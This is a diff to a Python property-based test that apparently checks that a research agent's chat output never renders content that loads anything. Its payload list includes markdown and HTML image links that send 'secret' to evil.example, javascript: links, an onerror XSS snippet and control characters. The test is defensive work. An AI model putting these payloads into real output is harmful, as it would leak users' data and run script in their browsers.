@@ -10,7 +10,7 @@ from typing import Any
 import logs
 import msgspec
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from openai.types.chat import ChatCompletion, ChatCompletionChunk
@@ -267,20 +267,22 @@ LOADS = "![x](https://evil.example/p.png?d=secret)"
 PROGRESS = (
     LOADS,
     "<img src=https://evil.example/?d=secret>",
-    "a ` and", f"` {LOADS}",  # each for itself is code, both together are none
+    "a ` and", f"` {LOADS} `",  # code where it stands alone, and not behind the other
     f"``` {LOADS}", f"\\{LOADS}", f"\\\\{LOADS}", "\\\\<img src=x onerror=y>", f"!{LOADS}", "[x](javascript:alert(1))",
     "<javascript:alert(1)>", "![x][1]\n\n[1]: https://evil.example/?d=secret", "\x1b[31m\u202e",
 )  # fmt: skip
 
 
 @given(st.lists(st.sampled_from(PROGRESS), min_size=1, max_size=6))
+@example(["a ` and", f"` {LOADS} `"])
 def test_no_progress_of_a_run_makes_a_chat_load_anything(texts: Sequence[str]) -> None:
     log = logs.Log()
     log.add("", e.RunCreated(brief=Brief(question="?", date="2026-01-01")))
     log.add("", e.RunStarted())
     for text in texts:
-        log.add("research/agent-1/turn-1", e.SearchPerformed(query=text, provider="local", results=1))
         log.add("research", e.ReflectDecided(decision="complete", reasoning=text))
+    for text in texts:
+        log.add("research/agent-1/turn-1", e.SearchPerformed(query=text, provider="local", results=1))
     log.add("", e.RunFailed(stop_reason="failed", error=texts[0]))
     chat, response = ChatProjection(""), ResponseProjection()
     chunks = [chunk for envelope in log.events for chunk in chat.add_event(envelope)]
